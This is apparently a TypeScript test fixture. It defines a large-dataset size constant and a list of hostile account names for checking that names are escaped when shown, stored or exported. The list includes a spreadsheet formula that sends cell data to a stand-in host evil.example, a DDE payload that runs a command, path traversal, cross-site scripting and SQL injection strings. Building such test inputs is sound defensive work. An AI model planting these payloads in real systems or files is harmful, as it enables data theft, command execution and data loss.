/** 1,500 people with three roles each, 300 applications, 20 groups and 180 that are no longer there: 5,000 assignments. */
export const LARGE = { people: 1_500, applications: 300, groups: 20, gone: 180, membersOfGroup: 40 } as const;

/** What somebody could call an account to trip whoever shows, stores or exports its name. */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "Quote \" and ' and ` and \\",
  "Two\r\nlines",
  "\u202Egnp.exe\u202C right to left",
  "../../etc/passwd",
  "<img src=x onerror=alert(1)>",
  "x'); DROP TABLE findings;--",
  "Tab\tand nul\u0000 and bell\u0007",
  "👩‍👩‍👧‍👦 Zoë Ångström",
  "A".repeat(10_000),
];
